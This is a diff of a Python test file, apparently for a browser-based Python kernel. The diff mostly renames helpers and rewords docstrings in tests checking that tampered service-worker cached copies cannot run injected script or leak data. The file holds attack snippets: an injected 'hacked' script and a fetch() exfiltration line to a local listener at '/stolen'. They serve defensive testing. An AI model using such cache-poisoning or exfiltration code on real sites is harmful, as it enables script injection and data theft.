@@ -1,4 +1,4 @@
-"""On a host with one origin, code in the kernel changes the copies that the service worker keeps for visits offline."""
+"""On a host with one origin, code in the kernel changes the service worker's saved copies."""
 
 from __future__ import annotations
 
@@ -16,7 +16,7 @@ from tests.attacks.listener import Listener
 from tests.web.test_offline import Host, build_of, wait_until_saved
 
 HACK = "for (const each of [window, parent]) each.document.documentElement.dataset.hacked = 'yes';"
-# What takes the place of a copy: its name, its content, its type.
+# Replacements of copies: name, content, type.
 CHANGED = {
     "the page": ("", f"<!doctype html><html data-kernel=ready><script>{HACK}</script>", "text/html"),
     "the frame of the kernel": (
@@ -30,7 +30,7 @@ CHANGED = {
     "the script of the frame": ("{build}/kernel_frame.js", HACK, "text/javascript"),
     "the style of the page": ("{build}/ui.css", "html { --hacked: yes }", "text/css"),
 }
-CHANGE = """
+REPLACE = """
 import js
 from pyodide.code import run_js
 await run_js('''async (url, text, type) => {{
@@ -44,19 +44,19 @@ await run_js('''async (url, text, type) => {{
 
 
 class Place:
-    """A host of one origin, which can go and come back, and a browser that visits it."""
+    """A host with one origin that can be stopped and restarted, and a browser that visits it."""
 
     def __init__(self, dist: Path) -> None:
         self._dist = dist
         self._host: Host | None = Host(dist, True)
         self.surface = Surface(launch(), self._host.url)
 
-    def leave(self) -> None:
+    def stop_host(self) -> None:
         if self._host:
             self._host.stop()
             self._host = None
 
-    def come_back(self) -> None:
+    def start_host(self) -> None:
         if self._host is None:
             self._host = Host(self._dist, True, urlsplit(self.surface.url).port or 0)
 
@@ -66,22 +66,22 @@ def place(surface_dist: Path) -> Iterator[Place]:
     place = Place(surface_dist)
     yield place
     place.surface.driver.quit()
-    place.leave()
+    place.stop_host()
 
 
 @pytest.fixture
 def visited(place: Place) -> Surface:
-    """A page whose copies are kept."""
-    place.come_back()
+    """Return a page whose copies are saved."""
+    place.start_host()
     place.surface.reload(fresh=True)
     wait_until_saved(place.surface)
     return place.surface
 
 
-def change(surface: Surface, name: str, text: str, type: str) -> str:
-    """Put something in the place of a copy, as code in the kernel can; gives its address."""
+def replace_copy(surface: Surface, name: str, text: str, type: str) -> str:
+    """Replace a copy, as code in the kernel can, and return its address."""
     url = surface.url + name.format(build=build_of(surface))
-    surface.python(CHANGE.format(url=url, text=text, type=type))
+    surface.python(REPLACE.format(url=url, text=text, type=type))
     return url
 
 
@@ -90,11 +90,11 @@ def change(surface: Surface, name: str, text: str, type: str) -> str:
 def test_no_changed_copy_runs_in_the_page(
     visited: Surface, place: Place, name: str, text: str, type: str, offline: bool
 ) -> None:
-    change(visited, name, text, type)
+    replace_copy(visited, name, text, type)
     if offline:
-        place.leave()
+        place.stop_host()
 
-    # Where the page isn't served, the browser says so.
+    # If the page isn't served, the browser reports an error.
     with contextlib.suppress(WebDriverException):
         visited.driver.get(visited.url)
     if "frame" in name or "kernel" in name:
@@ -105,21 +105,21 @@ def test_no_changed_copy_runs_in_the_page(
     assert visited.driver.execute_script(styled) == ""
 
 
-def test_a_changed_script_of_the_kernel_is_held_by_its_policy_all_the_same(visited: Surface) -> None:
+def test_a_changed_script_of_the_kernel_is_still_bound_by_its_policy(visited: Surface) -> None:
     outside = Listener()
     with outside.listening():
         leak = f"fetch('{outside.url}/stolen', {{ mode: 'no-cors' }})"
         text = f"{leak}.finally(() => postMessage({{ type: 'failed', reason: 'it leaked, or could not' }}))"
-        change(visited, "{build}/kernel.js", text, "text/javascript")
+        replace_copy(visited, "{build}/kernel.js", text, "text/javascript")
 
         visited.load(wait=False)
         visited.wait_for("document.documentElement.dataset.kernel === 'failed'")
 
-        assert outside.heard(visited) == []
+        assert outside.received(visited) == []
 
 
-def test_a_copy_of_a_script_becomes_no_document(visited: Surface) -> None:
-    url = change(visited, "{build}/kernel.js", f"<script>{HACK}</script>", "text/html")
+def test_a_copy_of_a_script_can_not_become_a_document(visited: Surface) -> None:
+    url = replace_copy(visited, "{build}/kernel.js", f"<script>{HACK}</script>", "text/html")
 
     visited.javascript(
         "const frame = Object.assign(document.createElement('iframe'), { src: arguments[0] });"
